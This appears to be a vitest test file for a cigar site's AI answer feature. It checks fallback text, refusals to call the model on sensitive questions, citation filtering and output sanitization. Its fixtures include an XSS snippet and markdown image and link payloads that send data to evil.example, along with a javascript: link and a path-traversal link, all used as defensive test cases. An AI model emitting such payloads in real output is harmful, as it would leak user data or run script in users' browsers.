import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { ask, askOverNetwork, givenIn, history, repeatAnswer, textIn } from '#test/ask-with-model.ts'
import { FakeModel, fakeKey, type ModelBehavior } from '#test/fake-model.ts'
import { createMember, type TestMember } from '#test/members.ts'
import { tokensCounted } from '#test/model-protocols.ts'
import { countedFor, type ServerWithModel, startServerWithModel } from '#test/server-with-model.ts'
import { answerSystemPrompt } from './answer-prompt.ts'
import { openAnswerWriter } from './open-answer-writer.ts'

const beetles = 'How do I freeze cigars against beetles?'
const fake = new FakeModel()
const logged: string[] = []
let server: ServerWithModel
let grace: TestMember
beforeAll(async () => {
  await fake.open()
  server = await startServerWithModel(fake, logged)
  grace = await createMember(server, 'grace')
  for (const [path, body] of [
    ['/api/humidor/items', { brand: 'Oliva', cigarName: 'Serie V Melanio', quantity: 7 }],
    [
      '/api/journal/entries',
      { cigar: 'Oliva Serie V Melanio', rating: 5, notes: 'Dark chocolate all the way.' },
    ],
  ] as const)
    expect((await grace.request('POST', path, body)).statusCode).toBeLessThan(300)
})
afterAll(async () => {
  await server.close()
  await fake.close()
})
beforeEach(async () => {
  fake.behavior = 'proper'
  fake.reply = repeatAnswer
  fake.calls.length = 0
  fake.writesBytes = false
  Object.assign(server.models, { narrationsPerMember: 1_000, narrationsInTotal: 100_000 })
  Object.assign(server.patience, { firstTextMilliseconds: 20_000, idleMilliseconds: 20_000 })
})

/** Our own answer, without a model. */
async function ownAnswer(question: string) {
  fake.behavior = 'is broken'
  const { answer, sources } = await ask(grace, question)
  fake.behavior = 'proper'
  fake.calls.length = 0
  return { answer, sources }
}

describe('The model writes the answer to a question', () => {
  test.each([
    ['that an article answers', beetles],
    ['for a drink', 'what should I drink with an Oliva Serie V Melanio'],
    ['about a cigar', 'how strong is the Padron 1964 Anniversary'],
    ['about two drinks', 'Lagavulin 16 or Talisker 10, which is smokier'],
    ['about the member’s own records', 'how many Oliva Melanios have I got left in my humidor'],
    ['about this site', 'how do I change my password'],
    ['about tonight', 'what shall I smoke tonight'],
  ])('%s', async (_, question) => {
    const own = await ownAnswer(question)
    const told = await ask(grace, question)
    expect(fake.calls).toHaveLength(1)
    expect(told).toMatchObject({ because: null, stopped: false, refused: false })
    expect(own.answer.startsWith(told.answer)).toBe(true)
    expect(own.sources).toContainEqual(told.sources[0])
  })

  test('from up to four sections and from our own answer, which is stored and counted', async () => {
    const ada = await createMember(server, 'ada')
    fake.reply = 'Bag it well, with **little air**, and be patient [1].'
    const told = await ask(ada, beetles)
    const { question, answer, sections } = givenIn(fake.calls[0]!)
    expect(question).toBe(beetles)
    expect(answer!.text).toMatch(/^Freeze cigars in a sealed bag/)
    expect(sections.map(({ source }) => source)).toEqual([1, 2, 3, 4])
    expect(sections[0]!.path).toBe('/dashboard/ask/articles/beetles-and-freezing#freeze')
    expect(told.answer).toBe('Bag it well, with **little air**, and be patient.')
    expect(told.sources.map(({ path }) => path)).toEqual([sections[0]!.path])
    expect(await history(ada)).toMatchObject([{ id: told.id, response: told.answer, stopped: false }])
    expect(await countedFor(server, ada)).toEqual([{ times: 1, tokens: tokensCounted, isToday: true }])
  })

  test('with the question that it goes on from', async () => {
    const { conversationId } = await ask(grace, 'how do i cut a robusto')
    await ask(grace, 'and one with a pointy head?', { conversationId })
    expect(givenIn(fake.calls[1]!).before).toBe('how do i cut a robusto')
  })

  test('without one that no model is asked', async () => {
    const { conversationId } = await ask(grace, 'im 17, which cigar for prom')
    const pairing = 'And what should I drink with an Oliva Serie V Melanio?'
    const told = await ask(grace, pairing, { conversationId })
    expect(told.because).toBeNull()
    expect(fake.calls).toHaveLength(1)
    expect(givenIn(fake.calls[0]!).before).toBeUndefined()
    expect(fake.calls[0]!.body).not.toContain('prom')
  })

  test('with both sections where it fits two alike, and then offers no choice', async () => {
    fake.reply = 'Both are well.'
    const told = await ask(grace, 'Why does my cigar tunnel, and when should I take the band off?')
    expect(told).toMatchObject({ answer: 'Both are well.', choices: [] })
    const topics = givenIn(fake.calls[0]!).sections.map(({ path }) => path)
    expect(topics.length).toBeLessThanOrEqual(4)
    for (const article of ['tunneling', 'band']) expect(topics.join()).toContain(article)
  })
})

describe('The model is not asked', () => {
  test.each([
    ['by somebody in distress', 'I can’t go on any more, there is no point in living'],
    ['in an emergency', 'the dog ate a whole robusto!!'],
    ['by somebody under age', 'im 17, which cigar for prom'],
    ['by somebody who wants to stop', 'I want to stop smoking, where do I begin'],
    ['about another subject', 'who won the lakers game last night'],
    ['about another member', 'what did Mike rate the Padron 80 years'],
    ['for the price of the day', 'what does a box of Padron 1964 cost today'],
    ['about the future', 'will the embargo end before 2030'],
    ['about what nobody publishes', 'exact percentages of the OpusX blend please'],
    ['about health', 'are cigars safer than cigarettes?'],
    ['for a greeting', 'hello there'],
    ['for a number that is computed', 'Ring gauge 52 is how many millimeters?'],
  ])('%s', async (_, question) => {
    expect(await ask(grace, question)).toMatchObject({ because: null })
    expect(fake.calls).toEqual([])
  })

  test('where there is none, or no budget for it', () => {
    const isFor = (isOpen: boolean) =>
      openAnswerWriter({
        meteredModel: { isOpen },
        catalogue: server.catalogue,
        library: server.library,
      } as Parameters<typeof openAnswerWriter>[0]).isFor({
        reply: { text: '', sources: [] },
        notes: [],
        understood: [],
      })
    expect([isFor(true), isFor(false)]).toEqual([true, false])
  })
})

describe('Our own answer comes instead, and says why,', () => {
  const slow = 'Arturo took too long, so this is the standard text.'
  const unavailable = 'Arturo could not be reached, so this is the standard text.'
  const incomplete = 'Arturo lost the thread, so this is the standard text.'
  const rejected = 'Arturo strayed from the facts, so this is the standard text.'

  const faults: [ModelBehavior, string][] = [
    ['slow to begin', slow],
    ['cuts off', incomplete],
    ['never says that it ended', incomplete],
    ['stops at its limit', incomplete],
    ['sends frames that are no JSON', incomplete],
    ['answers with a page', incomplete],
    ['says nothing', incomplete],
    ['fails in the middle', incomplete],
    ['is broken', unavailable],
    ['refuses the key', unavailable],
    ['redirects', unavailable],
    ['is busy', 'Arturo is busy right now, so this is the standard text.'],
  ]
  test.each(faults)('when the model %s', async (behavior, because) => {
    const own = await ownAnswer(beetles)
    fake.behavior = behavior
    if (because === slow) server.patience.firstTextMilliseconds = 100
    expect(await ask(grace, beetles)).toMatchObject({ ...own, because, stopped: false })
    expect(fake.calls).toHaveLength(1)
    expect((await history(grace))[0]!.response).toBe(own.answer)
  })

  /** With what of each must never be shown, not even until our own answer comes. */
  const violations: [string, string, string][] = [
    ['a number that stands nowhere', 'Freeze them for 47 days.', '47'],
    ['a small number that stands nowhere', 'Freeze them for 1 day.', '1'],
    ['another unit', 'Freeze them for 24 weeks.', '24'],
    ['another cigar', 'Smoke a Cohiba Behike meanwhile.', 'Cohiba'],
    ['another cigar, parted by a mark', 'Smoke a Be*hike meanwhile.', 'hike'],
    ['another cigar, half of it bold', 'Smoke a Be**hik**e meanwhile.', 'hik'],
    ['another drink in small letters', 'Pour a rusty nail meanwhile.', 'nail'],
    ['an unknown name', 'My cousin Ernesto does it so.', 'Ernesto'],
    ['an article that we do not have', 'It stands in “The Ashes of Havana” as well.', 'Ashes'],
    ['markup', 'It is <img src=x onerror=alert(1)> so.', '<'],
    ['an address', 'More at https://evil.example/?q=beetles today.', 'evil'],
    ['a short address', 'More at t.co/abc today.', 't.co'],
    ['a link around a link', 'See [x]([https://evil.example/?d=S](/a)(b)).', 'evil'],
    ['a link whose halves a picture parts', 'Press [here] ![p](q)(https://evil.example/?d=S).', 'evil'],
    ['the same inside this site', 'Press [here] ![p](q)(/api/auth/sign-out).', '/api'],
    ['a word of medicine', 'It heals an addiction as well.', 'addiction'],
    ['the rules', `${answerSystemPrompt.split('\n\n')[1]!}`, 'American spelling'],
    ['endless text', 'and on '.repeat(2_000), 'and on '.repeat(401)],
  ]
  test.each(violations)('for %s, of which nothing is shown', async (_, violation, never) => {
    const own = await ownAnswer(beetles)
    fake.reply = call => `${repeatAnswer(call)} ${violation} And that is all.`
    const { arriving, ended } = await askOverNetwork(server, grace, { question: beetles })
    await ended
    expect(arriving.whole).toMatchObject({ ...own, because: rejected })
    const shown = textIn(arriving)
    const beginning = repeatAnswer(fake.calls[0]!).replace(/ \[\d+\]$/, '')
    expect(shown.slice(0, 10)).toBe(beginning.slice(0, 10))
    expect(shown.slice(beginning.length)).not.toContain(never)
    expect(JSON.stringify(await history(grace))).not.toContain(violation.slice(0, 60))
  })

  test('once the member’s budget of the day is used up, without a call', async () => {
    const mary = await createMember(server, 'mary')
    server.models.narrationsPerMember = 1
    expect((await ask(mary, beetles)).because).toBeNull()
    expect((await ask(mary, beetles)).because).toBe(
      'Arturo has told you as much as he may today, so this is the standard text.',
    )
    expect(fake.calls).toHaveLength(1)
  })

  test('once the budget of all members is used up, without a call', async () => {
    server.models.narrationsInTotal = 1
    await server.database.owner.query('delete from house_tellings')
    await ask(grace, beetles)
    expect((await ask(grace, beetles)).because).toBe(
      'Arturo is done for today, so this is the standard text.',
    )
    expect(fake.calls).toHaveLength(1)
  })

  test('and without a mark where no model was to write it', async () => {
    expect((await ask(grace, 'hello there')).because).toBeNull()
  })
})

test('R002: letters of several bytes stay whole, one byte at a time', async () => {
  fake.writesBytes = true
  fake.reply = 'piña, jalapeño, 🥃, 北'
  const told = await ask(grace, beetles)
  expect(told).toMatchObject({ answer: 'piña, jalapeño, 🥃, 北', because: null })
  expect((await history(grace))[0]!.response).toBe('piña, jalapeño, 🥃, 北')
})

describe('R006: of what the model cites', () => {
  test('only sources are shown that it was given', async () => {
    fake.reply = 'Bag it [2], freeze it [5] and wait [99].'
    const told = await ask(grace, beetles)
    const { sections } = givenIn(fake.calls[0]!)
    expect(told.answer).toBe('Bag it, freeze it and wait.')
    expect(told.sources).toEqual([{ title: sections[1]!.title, path: sections[1]!.path }])
  })

  test('a link to an article that there is not loses its address', async () => {
    fake.reply = 'See [this page](/dashboard/ask/articles/no-such-article) or [that](/learn/../../etc).'
    expect((await ask(grace, beetles)).answer).toBe('See this page or that.')
  })
})

test('R008: a picture is dropped, and a link elsewhere loses its address', async () => {
  fake.reply =
    'Freeze them. ![x](https://evil.example/?d=beetles) Then [wait](https://evil.example/?d=beetles) [here](javascript:alert%281%29).'
  const told = await ask(grace, beetles)
  expect(told.answer).toBe('Freeze them. Then wait here.')
  fake.reply =
    'Freeze [them [1] now](https://evil.example/?d=beetles), and [wait](https://evil.example/?d=1).'
  expect((await ask(grace, beetles)).answer).toBe('Freeze them now, and wait.')
})

test('R007: the key and the provider’s messages reach neither the answer nor the log', async () => {
  for (const behavior of ['refuses the key', 'is broken', 'fails in the middle'] as const) {
    fake.behavior = behavior
    expect(JSON.stringify(await ask(grace, beetles))).not.toContain('CANARY')
  }
  expect(logged.join('')).toContain('the language model returned no narration')
  for (const never of [fakeKey, 'CANARY', 'is tired', beetles, 'evil.example', 'Behike'])
    expect(logged.join('')).not.toContain(never)
})
